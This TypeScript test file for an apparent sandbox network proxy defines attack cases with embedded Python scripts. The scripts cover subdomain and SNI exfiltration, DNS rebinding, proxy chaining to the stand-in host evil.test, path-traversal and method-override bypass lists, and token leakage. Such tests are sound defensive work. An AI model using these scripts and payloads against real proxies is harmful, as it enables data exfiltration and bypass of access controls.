import type { Heard } from "../stage/world.ts";
import { allow, domains, saysHello, somebodyHeard } from "./network-attacks.ts";
import type { NetworkAttack } from "./network-attacks.ts";

const SECRET = "the-real-value-4711";

/** A profile whose network tables are these, in TOML. */
const network = (tables: Readonly<Record<string, string>>, environment = "{}"): readonly string[] => [
  "-c",
  'permissions.mine.extends=":isolated"',
  "-c",
  `permissions.mine.environment=${environment}`,
  ...Object.entries(tables).flatMap(([name, table]) => ["-c", `permissions.mine.network.${name}=${table}`]),
  "-P",
  "mine",
];

const GOOD = '{ "good.test" = "allow" }';
const READING = '{ "good.test" = { methods = ["GET", "POST"], paths = ["/ok/**"] } }';
const WITNESS = '{ "127.0.0.1:8080" = "allow", "good.test" = "allow" }';
const LENT =
  '{ host = "http://127.0.0.1:8080", header = "Authorization: Bearer {}", paths = ["/witness/**"], methods = ["GET", "POST"], from = "env:API_TOKEN" }';

/** Of `http` requests, one that the rules of `READING` do not mean. */
const elsewhere = (heard: readonly Heard[]): boolean =>
  heard.some((each) => each.kind === "http" && (each.url !== "/ok/fine" || !["GET", "POST"].includes(each.method)));
const chained = (heard: readonly Heard[]): boolean =>
  heard.some((each) => each.kind === "chain" || (each.kind === "http" && each.host === "evil.test"));
const told = (heard: readonly Heard[]): boolean =>
  heard.some((each) => each.kind === "witness" && each.text.includes(SECRET));

/** What follows on plain HTTP by the proxy and past it, and inside of TLS. */
const WAYS = `
import ssl
def secure(host, *parts):
    s = connect(host, 443)
    if not s: return
    lax = ssl.create_default_context(); lax.check_hostname = False; lax.verify_mode = ssl.CERT_NONE
    try: talk(lax.wrap_socket(s, server_hostname=host), *parts)
    except OSError: pass
def every(method, path, more=b"", body=b""):
    head = b" HTTP/1.1\\r\\nHost: good.test\\r\\nConnection: close\\r\\n" + more + b"\\r\\n" + body
    say(method + b" http://good.test" + path + head)
    to("good.test", 80, method + b" " + path + head)
    secure("good.test", method + b" " + path + head)
`;

const PATHS = [
  "/admin /ok/../admin /ok/%2e%2e/admin /ok/.%2e/admin /ok/..%2fadmin /ok%2f..%2fadmin /ok/%252e%252e/admin //ok/fine //admin",
  "/ok//../admin /ok/..;/admin /ok/..;x=1/admin /ok/;/../admin /ok/..\\\\admin /ok\\\\..\\\\admin /ok/%5c../admin /OK/../admin",
  "/ok/./../admin /./admin /ok/..%00/admin /ok/%c0%ae%c0%ae/admin /ok/%u002e./admin /ok/．．/admin /okay /ok/../ /admin?/ok/",
  "/%6fk/../admin /ok/..%09/admin /ok/..%c0%af/admin /ok/..?x /ok/%2e%2e%2fadmin /ok/fine/../../admin",
].flatMap((line) => line.split(" "));

const OVERRIDES = [
  "X-HTTP-Method-Override: DELETE",
  "x-http-method-override: delete",
  "X-HTTP-Method: PUT",
  "X-Method-Override: PATCH",
  "X_HTTP_Method_Override: DELETE",
  "X-HTTP-Method-Override: GET, DELETE",
  "X-HTTP-Method-Override: GET\r\nX-HTTP-Method-Override: DELETE",
  "X-Original-URL: /admin",
  "X-Rewrite-URL: /admin",
  "X-Original-URI: /ok/../admin",
];

/** Attacks inside of what is allowed: with names below a pattern, with requests, with what stands for a credential. */
export const requestAttacks: readonly NetworkAttack[] = [
  {
    id: "N08",
    title: "data leaves in a thousand names below an allowed domain",
    script: `
import threading, time
end, names = time.time() + 2, [f"{os.urandom(16).hex()}.wild.test" for _ in range(1000)]
def work():
    while names and time.time() < end: name = names.pop(); to(name, 80, b"GET / HTTP/1.0\\r\\nHost: " + name.encode() + b"\\r\\n\\r\\n")
threads = [threading.Thread(target=work) for _ in range(24)]
for t in threads: t.start()
for t in threads: t.join()`,
    words: allow("*.wild.test"),
    effect: (heard) => new Set(heard.flatMap((each) => (each.kind === "dns" ? [each.name] : []))).size > 250,
    allowed: "outside",
  },
  {
    id: "N08b",
    title: "data leaves in the name of a TLS greeting",
    script: `${WAYS}
for name in ("s3cret.good.test", "good.test.s3cret.test", "s3cret"):
    s = connect("good.test", 443)
    lax = ssl.create_default_context(); lax.check_hostname = False; lax.verify_mode = ssl.CERT_NONE
    try: lax.wrap_socket(s, server_hostname=name).close()
    except OSError: pass`,
    words: allow("good.test"),
    effect: (heard) => heard.some((each) => each.kind === "closed" && each.port === 443 && each.received > 0),
    allowed: domains('{ "good.test" = { access = "allow", sni = "any" } }'),
  },
  {
    id: "N20",
    title: "blocks of addresses are computed with a sign, or by characters",
    script: `for way in (1, 2): get("http://93.184.215.14/"); tunnel(b"93.184.215.14:80"); socks(b"93.184.215.14", 80); to("93.184.215.14", 80, b"GET / HTTP/1.0\\r\\n\\r\\n")`,
    words: allow(
      "128.0.0.0/1",
      "93.184.215.15",
      "93.184.215.12/31",
      "93.184.214.0/24",
      "9.0.0.0/8",
      "192.0.0.0/3",
      "::/0",
    ),
    effect: somebodyHeard,
    allowed: allow("64.0.0.0/2"),
  },
  {
    id: "N28",
    title: "a name leads somewhere public when it is checked and to the host's loopback afterwards",
    script: `
import time
name = os.urandom(4).hex() + ".rebind.test"
kept = connect("127.0.0.1", 61128)
for _ in range(3):
    get(f"http://{name}/", f"https://{name}/"); plain(name.encode()); tunnel(name.encode() + b":80"); socks(name.encode(), 80)
    if kept:
        try: kept.sendall(b"GET http://" + name.encode() + b"/ HTTP/1.1\\r\\nHost: " + name.encode() + b"\\r\\n\\r\\n"); kept.recv(65536)
        except OSError: pass
    time.sleep(2.7)`,
    words: allow("*.rebind.test"),
    effect: (heard) => heard.some((each) => each.kind === "tcp" && each.address === "127.0.0.1"),
    allowed: domains('{ "*.rebind.test" = { access = "allow", resolve_to = ["127.0.0.0/8"] } }'),
  },
  {
    id: "N24b",
    title: "a request to another host is spelled as what only its server takes for one",
    script: `
import time
for pieces in ((b"GET / RTSP/1.0\\r\\n",), (b"OPTIONS * RTSP/1.0\\r\\nCSeq: 1\\r\\n\\r\\nGET / HTTP/1.1\\r\\n",), (b"SOURCE / ICE/1.0\\r\\n",), (b"PROPFIND", b" / HT", b"TP/1.1\\r\\n")):
    for way in (1, 2):
        s = connect("good.test", 8080) if way == 1 else connect("127.0.0.1", 61128)
        if way == 2: s.sendall(b"CONNECT good.test:8080 HTTP/1.1\\r\\nHost: good.test:8080\\r\\n\\r\\n"); time.sleep(0.1)
        for piece in pieces: s.sendall(piece); time.sleep(0.1)
        talk(s, b"Host: evil.test\\r\\nConnection: close\\r\\n\\r\\n"); s.close()`,
    words: allow("good.test:8080"),
    effect: (heard) => heard.some((each) => each.kind === "http" && each.host === "evil.test"),
    allowed: domains('{ "good.test:8080" = { access = "allow", sni = "any" } }'),
  },
  {
    id: "N25",
    title: "another host is asked for inside of TLS, where requests are read",
    script: `${WAYS}
first = b"GET /ok/fine HTTP/1.1\\r\\nHost: good.test\\r\\n\\r\\n"
for host in (b"other.test", b"good.test:8443", b"good.test@other.test", b"good.test\\r\\nHost: other.test"):
    ask = b"GET /ok/fine HTTP/1.1\\r\\nHost: " + host + b"\\r\\nConnection: close\\r\\n\\r\\n"
    secure("good.test", ask); secure("good.test", first + ask); secure("good.test", first, ask)
secure("good.test", b"GET https://other.test/ok/fine HTTP/1.1\\r\\nHost: other.test\\r\\nConnection: close\\r\\n\\r\\n")`,
    words: network({ domains: GOOD, http: READING }),
    effect: (heard) => heard.some((each) => each.kind === "http" && each.host !== "good.test"),
    // Unread, a server that has several hosts behind one name is asked for any of them.
    allowed: allow("good.test"),
  },
  {
    id: "N42",
    title: "an allowed host that is a proxy itself leads on",
    script: `
ask = b"GET / HTTP/1.1\\r\\nHost: evil.test\\r\\nConnection: close\\r\\n\\r\\n"
for port in (8080, 80):
    at = b"good.test:%d" % port
    outer = b"CONNECT " + at + b" HTTP/1.1\\r\\nHost: " + at + b"\\r\\n\\r\\n"
    for inner in (b"CONNECT evil.test:80 HTTP/1.1\\r\\nHost: evil.test:80\\r\\n\\r\\n" + ask, b"CONNECT evil.test:80 HTTP/1.1\\r\\nHost: " + at + b"\\r\\n\\r\\n" + ask, b"\\r\\n\\r\\nCONNECT evil.test:80 HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n" + ask, b"CONNECT evil.test:80 HTTP/1.0\\r\\n\\r\\n" + ask, b"GET http://evil.test/ HTTP/1.1\\r\\nHost: evil.test\\r\\nConnection: close\\r\\n\\r\\n", b"GET http://evil.test/ HTTP/1.1\\r\\nHost: " + at + b"\\r\\nConnection: close\\r\\n\\r\\n"):
        say(outer, inner); say(outer + inner); to("good.test", port, inner)
        say(b"\\x05\\x01\\x00", b"\\x05\\x01\\x00\\x03\\x09good.test" + struct.pack(">H", port), inner)
        say(inner.replace(b"evil.test:80 ", at + b" ", 1), inner)`,
    words: allow("good.test", "good.test:8080"),
    effect: chained,
    allowed: domains('{ "good.test:8080" = { access = "allow", sni = "any" } }'),
  },
  {
    id: "N45",
    title: "a path that one reads as allowed and another as something else",
    script: `${WAYS}
for path in ${JSON.stringify(PATHS)}: every(b"GET", path.encode())
for method in (b"DELETE", b"get", b"PROPFIND", b"TRACE"): every(method, b"/ok/fine")`,
    words: network({ domains: GOOD, http: READING }),
    effect: elsewhere,
    allowed: allow("good.test"),
  },
  {
    id: "N45b",
    title: "the paths that a rule means still go, with and without TLS",
    script: `${WAYS}
every(b"GET", b"/admin")`,
    words: network({ domains: GOOD, http: READING }),
    effect: saysHello,
    allowed: network({ domains: GOOD, http: '{ "good.test" = { paths = ["/admin"] } }' }),
  },
  {
    id: "N46",
    title: "a header says that the request is another one",
    script: `${WAYS}
for line in ${JSON.stringify(OVERRIDES)}: every(b"POST", b"/ok/fine", line.encode() + b"\\r\\nContent-Length: 0\\r\\n")`,
    words: network({ domains: GOOD, http: READING }),
    effect: (heard) => heard.some(({ kind }) => kind === "override"),
    allowed: allow("good.test"),
  },
  {
    id: "N48",
    title: "what stands for a credential is put where it would be filled in for somebody else",
    script: `${WAYS}
p = os.environ["API_TOKEN"].encode()
def ask(line, more=b"", body=b""):
    for host in (b"127.0.0.1:8080", b"good.test"):
        head = b" HTTP/1.1\\r\\nHost: " + host + b"\\r\\nConnection: close\\r\\n" + more + b"\\r\\n" + body
        method, path = line.split(b" ", 1)
        say(method + b" http://" + host + path + head)
        to(host.split(b":")[0].decode(), 8080 if b":" in host else 80, line + head)
bearer = b"Authorization: Bearer " + p + b"\\r\\n"
ask(b"GET /witness/a?t=" + p, bearer); ask(b"GET /witness/" + p); ask(b"GET /elsewhere/witness/", bearer); ask(b"DELETE /witness/", bearer); ask(b"TRACE /witness/", bearer)
for name in (b"Cookie", b"X-Api-Key", b"Referer", b"Proxy-Authorization", b"X-" + p, b"Authorization2"): ask(b"GET /witness/b", name + b": " + p + b"\\r\\n")
ask(b"GET /witness/c", bearer + bearer); ask(b"POST /witness/d", b"Content-Length: %d\\r\\n" % len(p), p)
half = len(p) // 2
ask(b"POST /witness/e", b"Transfer-Encoding: chunked\\r\\n", b"%x\\r\\n%s\\r\\n%x\\r\\n%s\\r\\n0\\r\\nX-Trailer: %s\\r\\n\\r\\n" % (half, p[:half], len(p) - half, p[half:], p))
ask(b"GET /witness/../elsewhere/witness/", bearer); ask(b"GET /witness/%2e%2e/elsewhere/witness/", bearer); ask(b"POST /witness/f", bearer + b"X-Original-URL: /elsewhere/witness/\\r\\nContent-Length: 0\\r\\n")
ask(b"POST /witness/g", bearer + b"X-HTTP-Method-Override: DELETE\\r\\nContent-Length: 0\\r\\n")`,
    words: network({ domains: WITNESS, "credentials.API_TOKEN": LENT }),
    environment: { API_TOKEN: SECRET },
    effect: (heard) =>
      told(heard) ||
      heard.some(
        (each, at) => each.kind === "override" && heard.slice(at).find(isWitness)?.authorization?.includes(SECRET),
      ),
    allowed: network({ domains: WITNESS }, '{ include = ["API_TOKEN"] }'),
  },
];

function isWitness(heard: Heard): heard is Heard & { readonly kind: "witness" } {
  return heard.kind === "witness";
}
